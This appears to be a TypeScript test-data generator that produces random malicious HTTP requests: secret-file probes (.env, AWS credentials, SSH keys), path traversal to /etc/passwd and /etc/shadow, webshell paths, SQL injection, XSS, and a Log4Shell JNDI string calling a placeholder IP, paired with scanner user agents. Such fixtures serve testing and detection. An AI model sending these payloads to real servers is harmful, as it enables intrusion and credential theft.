import { pick } from './draw.ts'

/** What an attacker asks for, and how. */
export interface Attack {
  method: string
  uri: string
  agent: string
}

const sensitive = '/.env /.git/config /.aws/credentials /id_rsa /wp-config.php.bak /server-status /.DS_Store'
const traversal =
  '/../../etc/passwd /static/..%2f..%2fetc%2fshadow /%2e%2e/%2e%2e/boot.ini /a/..;/manager/html'
const backdoors = '/shell.php /c99.php /wp-login.php /xmlrpc.php /phpmyadmin/ /cgi-bin/luci /actuator/env'
const injections = [
  "/item?id=1'%20OR%20'1'='1",
  '/list?q=1%20UNION%20SELECT%20password%20FROM%20users--',
  '/search?q=%3Cscript%3Ealert(1)%3C/script%3E',
  '/search?q="><img src=x onerror=alert(1)>',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: as attackers write it
  '/?x=${jndi:ldap://203.0.113.9/a}',
  '/cart?id=1;sleep(5)--',
]
const scanners = ['sqlmap/1.8', 'Nikto/2.5.0', 'masscan/1.3', 'zgrab/0.x', 'Nuclei - Open-source project', '']
const oddMethods = ['TRACE', 'CONNECT', 'PROPFIND', 'DEBUG', 'get', 'X'.repeat(60), '']

/** One of them. */
export function drawAttack(random: () => number): Attack {
  const uris = [sensitive, traversal, backdoors].flatMap(list => list.split(' '))
  const uri =
    random() < 0.3 ? `/probe-${Math.floor(random() * 1e6)}.php` : pick([...uris, ...injections], random)
  return {
    method: random() < 0.15 ? pick(oddMethods, random) : 'GET',
    uri,
    agent: pick(scanners, random),
  }
}
